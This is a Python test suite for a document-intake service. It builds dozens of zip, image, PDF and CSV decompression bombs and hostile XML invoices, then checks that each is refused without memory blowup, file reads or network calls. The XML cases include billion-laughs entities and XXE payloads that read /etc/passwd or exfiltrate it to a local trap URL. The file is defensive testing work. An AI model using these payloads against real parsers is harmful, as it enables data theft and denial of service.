"""Sixty bombs (D4) and forty hostile XML files (J3): each is refused with no memory, no request and no file read.

Every bomb comes as what people drop: a table, an e-invoice or a receipt; `-rP` prints what it cost. A trap listens
where the XML files point to.
"""

from __future__ import annotations

import gzip
import io
import resource
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache

import pytest
from intake_samples import HEADERS, LINE, finvoice, read_one, workbook

from intake import receipts
from intake.receipts import Unfit
from tests.support import documents as doc
from tests.support.receipts import archive, bomb, many_pages, pdf, photo

pytestmark = pytest.mark.gate("G14")

GROWTH = 64 * 1024  # kilobytes of this process, over all of them: what is large at once is the file itself


def zipped(*entries: tuple[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as held:
        for name, content in entries:
            held.writestr(name, content)
    return out.getvalue()


BOOK = workbook([HEADERS.split(";"), [1, 46000, "1.1.2026", "A", "B", "C", "", 1.5, "h", 2.25, 25.5]])
SHEET = "xl/worksheets/sheet1.xml"


def altered(old: bytes, new: bytes, entry: str = SHEET) -> bytes:
    """The workbook with a piece of one of its entries replaced."""
    with zipfile.ZipFile(io.BytesIO(BOOK)) as held:
        return zipped(
            *((n, held.read(n).replace(old, new, 1) if n == entry else held.read(n)) for n in held.namelist())
        )


def with_more(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO(BOOK)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as held:
        for name, content in entries:
            held.writestr(name, content)
    return out.getvalue()


def overlapping(times: int) -> bytes:
    """One entry's bytes listed under many names, as in the famous overlapping bomb."""
    content = bytearray(with_more(("xl/media/a.bin", b"\0" * 8_000_000)))
    end = content.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", content, end + 16)[0]
    at = content.rfind(b"PK\x01\x02", 0, end)
    last = bytes(content[at:end])
    listed = bytes(content[start:end]) + b"".join(last.replace(b"a.bin", f"{n:05}"[-5:].encode()) for n in range(times))
    total = struct.unpack_from("<H", content, end + 10)[0] + times
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, total, total, len(listed), start, 0)
    return bytes(content[:start]) + listed + tail


def lying(size: int) -> bytes:
    """A sheet that says it is of ``size`` bytes and unpacks to another."""
    content = bytearray(altered(b"</sheetData>", b"</sheetData>" + b" " * 3_000_000))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(SHEET.encode()))
    struct.pack_into("<I", content, at + 24, size)
    return bytes(content)


def nested(depth: int) -> bytes:
    inner = b"0" * 2_000_000
    for number in range(depth):
        inner = zipped((f"{number}.zip", inner))
    return inner


def quine() -> bytes:
    """An archive that holds itself, as far as a reader of names can tell."""
    once = zipped(("r/r.zip", b"x" * 100))
    return zipped(("r/r.zip", once), ("r/r.zip.zip", once + once))


MEGA = 1024 * 1024
PNG = b"\x89PNG\r\n\x1a\n"
LAUGH = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
TABLES: dict[str, Callable[[], tuple[str, bytes]]] = {
    "a swollen sheet": lambda: ("a.xlsx", altered(b"</sheetData>", b"</sheetData>" + b" " * (55 * MEGA))),
    "a very swollen sheet": lambda: ("a.xlsx", altered(b"</sheetData>", b"</sheetData>" + b" " * (80 * MEGA))),
    "a far cell": lambda: ("a.xlsx", altered(b'r="A2"', b'r="XFD1048576"')),
    "a far row": lambda: ("a.xlsx", altered(b'<row r="2"', b'<row r="104857600"')),
    "a row beyond numbers": lambda: ("a.xlsx", altered(b'<row r="2"', b'<row r="99999999999999999999"')),
    "a million empty entries": lambda: ("a.xlsx", with_more(*((f"x{n}", b"") for n in range(2500)))),
    "media swollen": lambda: ("a.xlsx", with_more(("xl/media/a.bin", b"\0" * (60 * MEGA)))),
    "one packed part under many names": lambda: ("a.xlsx", overlapping(40)),
    "one packed part under very many names": lambda: ("a.xlsx", overlapping(1500)),
    "a size told too small": lambda: ("a.xlsx", lying(10)),
    "a size told as nothing": lambda: ("a.xlsx", lying(0)),
    "a size told too large": lambda: ("a.xlsx", lying(0xFFFFFFF0)),
    "entities in a sheet": lambda: ("a.xlsx", altered(b"<worksheet", LAUGH + b"<worksheet")),
    "a broken container": lambda: ("a.xlsx", BOOK[: len(BOOK) // 2]),
    "a container of nothing": lambda: ("a.xlsx", zipped()),
    "archives in an archive, 3 deep": lambda: ("a.zip", nested(3)),
    "archives in an archive, 30 deep": lambda: ("a.xlsx", nested(30)),
    "an archive of itself": lambda: ("a.xlsx", quine()),
    "a packed table": lambda: ("a.csv.gz", gzip.compress(b";" * (20 * MEGA))),
    "a packed table named as one": lambda: ("a.csv", gzip.compress(b";" * (20 * MEGA))),
    "rows without end": lambda: ("a.csv", b"\n".join([HEADERS.encode()] + [b";" * 10] * 120_000)),
    "cells without end": lambda: ("a.csv", HEADERS.encode() + b"\n" + b";" * 3_000_000),
    "one cell without end": lambda: ("a.csv", HEADERS.encode() + b"\n" + b"a" * 3_000_000),
    "a quote without end": lambda: ("a.csv", HEADERS.encode() + b'\n"' + b"a\n" * 800_000),
    "a header of brackets": lambda: ("a.csv", b"(" * 2_000_000),
    "numbers of many digits": lambda: ("a.csv", f"{HEADERS}\n{LINE.replace('50,00', '9' * 100_000)}".encode()),
    "exponents": lambda: ("a.csv", f"{HEADERS}\n{LINE.replace('50,00', '1e999999999')}".encode()),
    "nothing but NUL": lambda: ("a.csv", b"\0" * 3_000_000),
    "a program": lambda: ("a.xlsx", b"MZ" + b"\1" * 1_000_000),
    "an old workbook": lambda: ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\1" * 100_000),
}
RECEIPTS: dict[str, Callable[[], tuple[str, bytes]]] = {
    **{f"a picture of {n} x {n}": (lambda n=n: ("k.png", doc.huge_png(n))) for n in (20_000, 30_000, 50_000)},  # type: ignore[misc]
    "a PDF that unpacks to two thousand megabytes": lambda: ("k.pdf", doc.swollen_pdf()),
    "a page drawn six million times": lambda: ("k.pdf", doc.endless_pdf()),
    **{f"a book of {n} pages": (lambda n=n: ("k.pdf", many_pages(n))) for n in (31, 500, 5000)},  # type: ignore[misc]
    "an archive": lambda: ("k.zip", archive()),
    "an archive of many": lambda: ("k.zip", archive(2000)),
    "an archive in an archive": lambda: ("k.zip", bomb()),
    "an archive named as a picture": lambda: ("k.jpg", bomb()),
    "an archive behind a picture": lambda: ("k.jpg", photo() + bomb()),
    "an archive behind a PDF": lambda: ("k.pdf", pdf() + bomb()),
    "a packed receipt": lambda: ("k.pdf.gz", gzip.compress(pdf())),
    "a book of no pages": lambda: ("k.pdf", many_pages(0)),
    "a page drawn six million times, named as a picture": lambda: ("k.jpg", doc.endless_pdf()),
    "an SVG of entities": lambda: ("k.svg", b'<!DOCTYPE s [<!ENTITY a "aaaa">]><svg>&a;</svg>'),
    "more than may be": lambda: ("k.jpg", photo() + b"\1" * 20_000_000),
    **{f"a PDF of {n} brackets": (lambda n=n: ("k.pdf", b"%PDF-1.4\n" + b"[" * n)) for n in (10_000, 1_000_000)},  # type: ignore[misc]
    **{f"a picture cut off at {n}": (lambda n=n: ("k.jpg", photo()[:n])) for n in (3, 200, 4000)},  # type: ignore[misc]
    "a PNG of false lengths": lambda: ("k.png", PNG + struct.pack(">I", 0x7FFFFFFF) + b"IHDR" + b"\0" * 40),
    "a PNG of words that unpack": lambda: (
        "k.png",
        PNG + struct.pack(">I", 4000) + b"zTXta\0\0" + zlib.compress(b"0" * 4_000_000)[:3997] + b"\0" * 4,
    ),
    "a GIF without end": lambda: ("k.gif", b"GIF89a" + b"\xff\xff\xff\xff\x80\0\0" + b"," * 100_000),
    "an empty file": lambda: ("k.jpg", b""),
    "a file of NUL": lambda: ("k.jpg", b"\0" * 1_000_000),
    "an HEIC without end": lambda: ("k.heic", b"\0\0\0\x18ftypheic" + b"\xff" * 200_000),
}


def test_there_are_sixty_bombs() -> None:
    assert len(TABLES) + len(RECEIPTS) >= 60


@pytest.mark.parametrize("name", TABLES)
def test_a_table_that_is_a_bomb_is_refused(name: str) -> None:
    file, content = TABLES[name]()
    before, peak = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    reading = read_one(content, name=file)
    used, grown = time.process_time() - before, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak
    print(f"{name}: {used:.2f} s, {grown / 1024:.0f} MB")
    assert reading.documents == () or name in HARMLESS
    assert reading.faults or name in HARMLESS
    assert grown <= GROWTH, f"{used:.2f} s"


# What is needless in a workbook is left behind unread, entities stay words, and rows are counted as they come.
HARMLESS = {"one packed part under many names", "entities in a sheet", "a row beyond numbers"}


@pytest.mark.parametrize("name", RECEIPTS)
def test_a_receipt_that_is_a_bomb_is_refused(name: str) -> None:
    file, content = RECEIPTS[name]()
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Unfit):
        receipts.receipt(file, content)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak <= GROWTH


@dataclass
class Trap:
    """Whether anybody connected to what the XML files point to."""

    listener: socket.socket = field(default_factory=lambda: socket.create_server(("127.0.0.1", 0)))

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}"

    def met(self) -> bool:
        self.listener.settimeout(0)
        try:
            self.listener.accept()
        except BlockingIOError:
            return False
        return True


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.listener.close()


def doctyped(doctype: str, details: str = "") -> bytes:
    return finvoice(details=details).replace(b"<Finvoice ", doctype.encode() + b"\n<Finvoice ", 1)


NOTE = "<InvoiceFreeText>{}</InvoiceFreeText>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@cache
def evil(url: str) -> dict[str, bytes]:
    """XML files that want something else than to be read; ``url`` is the trap's."""
    one = finvoice()
    body = one.partition(b"?>")[2]
    inside = {
        "an entity": ('<!DOCTYPE Finvoice [<!ENTITY x "y">]>', NOTE.format("&x;")),
        "an entity nobody uses": ('<!DOCTYPE Finvoice [<!ENTITY x "y">]>', ""),
        "an entity without a name": ("<!DOCTYPE Finvoice [<!ENTITY>]>", ""),
        "a billion laughs": (f'<!DOCTYPE Finvoice [<!ENTITY l0 "ha">{LAUGHS}]>', NOTE.format("&l9;")),
        "quadratic": (f'<!DOCTYPE Finvoice [<!ENTITY a "{"a" * 50_000}">]>', NOTE.format("&a;" * 2000)),
        "an entity of itself": ('<!DOCTYPE Finvoice [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', NOTE.format("&a;")),
        "a file": ('<!DOCTYPE Finvoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>', NOTE.format("&x;")),
        "a device": ('<!DOCTYPE Finvoice [<!ENTITY x SYSTEM "file:///dev/zero">]>', NOTE.format("&x;")),
        "an address": (f'<!DOCTYPE Finvoice [<!ENTITY x SYSTEM "{url}/x">]>', NOTE.format("&x;")),
        "a public address": (f'<!DOCTYPE Finvoice [<!ENTITY x PUBLIC "-//X" "{url}/x">]>', NOTE.format("&x;")),
        "a parameter": (f'<!DOCTYPE Finvoice [<!ENTITY % p SYSTEM "{url}/x.dtd"> %p;]>', ""),
        "a parameter out of band": (
            f'<!DOCTYPE Finvoice [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{url}/?%f;'>\"> %e; %s;]>",
            "",
        ),
        "an entity of nowhere": (f'<!DOCTYPE Finvoice SYSTEM "{url}/x.dtd">', NOTE.format("&outside;")),
        "an unparsed entity": (f'<!DOCTYPE Finvoice [<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "a" NDATA n>]>', ""),
        "an attribute's entity": ('<!DOCTYPE Finvoice [<!ENTITY x "y"><!ATTLIST Finvoice a CDATA "&x;">]>', ""),
        "a colon": ('<!DOCTYPE Finvoice [<!ENTITY a:b "y">]>', NOTE.format("&a:b;")),
        "a scheme": ('<!DOCTYPE Finvoice [<!ENTITY x SYSTEM "php://filter/x">]>', NOTE.format("&x;")),
        "a share": ('<!DOCTYPE Finvoice [<!ENTITY x SYSTEM "\\\\\\\\127.0.0.1\\\\c$">]>', NOTE.format("&x;")),
        "entities in UTF-7": ('<!DOCTYPE Finvoice [<!ENTITY x "y">]>', NOTE.format("&x;")),
    }
    files = {name: doctyped(*parts) for name, parts in inside.items()}
    files["entities in UTF-7"] = files["entities in UTF-7"].replace(b"UTF-8", b"UTF-7")
    files["entities in UTF-16"] = doctyped(*inside["a file"]).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    files["entities in UTF-32"] = doctyped(*inside["a file"]).decode().replace("UTF-8", "UTF-32").encode("utf-32")
    deep = "<a>" * 100 + "</a>" * 100
    many = "".join(f' a{n}="x"' for n in range(1_000_000))
    plain = {
        "a hundred deep": finvoice(root=deep),
        "five thousand deep": finvoice(root="<a>" * 5000 + "</a>" * 5000),
        "a million deep": b"<Finvoice>" + b"<a>" * 1_000_000,
        "a million attributes": b"<Finvoice" + many.encode() + b"></Finvoice>",
        "one attribute a hundred thousand times": b"<Finvoice" + b' a="x"' * 100_000 + b"></Finvoice>",
        "an attribute of a million letters": b'<Finvoice a="' + b"x" * 12_000_000 + b'"/>',
        "a name of a million letters": b"<Finvoice><" + b"x" * 1_000_000 + b"/></Finvoice>",
        "comments left open": b"<Finvoice>" + b"<!--" * 400_000,
        "sections left open": b"<Finvoice>" + b"<![CDATA[" * 200_000,
        "instructions left open": b"<Finvoice>" + b"<?" * 400_000,
        "a document within": body[: len(body) // 2] + one,
        "a control sign": finvoice(details=NOTE.format("&#0;")),
        "half a sign": finvoice(details=NOTE.format("&#xD800;")),
        "no end": one[:-200],
        "another end": one.replace(b"</Finvoice>", b"</Invoice>"),
        "an unknown prefix": one.replace(b"<Finvoice ", b"<x:Finvoice ", 1),
        "a page": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
        "a sheet of styles": b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
        "a picture": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        "nothing": b'<?xml version="1.0"?>',
    }
    return files | plain


def led_elsewhere(url: str) -> dict[str, bytes]:
    """Good invoices that name other places: they are read as they stand, and nobody goes there."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x" parse="text"/>'
    head = f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>\n<Finvoice '.encode()
    schema = f'<Finvoice xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{url}/x.xsd" '
    return {
        "an XInclude": finvoice(root=include),
        "a stylesheet of elsewhere": finvoice().replace(b"<Finvoice ", head, 1),
        "a schema of elsewhere": finvoice().replace(b"<Finvoice ", schema.encode(), 1),
        "a DTD of elsewhere": doctyped(f'<!DOCTYPE Finvoice SYSTEM "{url}/x.dtd">'),
    }


@pytest.mark.parametrize("name", evil(""))
def test_a_hostile_xml_file_is_refused(trap: Trap, name: str) -> None:
    content = evil(trap.url)[name]
    before = time.process_time()
    reading = read_one(content, name="lasku.xml")
    print(f"{name}: {time.process_time() - before:.2f} s")
    assert reading.documents == () or name in PARTLY
    assert reading.faults
    assert "root:" not in str(reading)
    assert not trap.met()


PARTLY = {"a document within"}  # the second document of the file is a good one


@pytest.mark.parametrize("name", led_elsewhere(""))
def test_nobody_goes_where_an_xml_file_leads(trap: Trap, name: str) -> None:
    reading = read_one(led_elsewhere(trap.url)[name], name="lasku.xml")
    assert len(reading.documents) <= 1
    assert not trap.met()


def test_there_are_forty_xml_files() -> None:
    assert len(evil("")) + len(led_elsewhere("")) >= 40
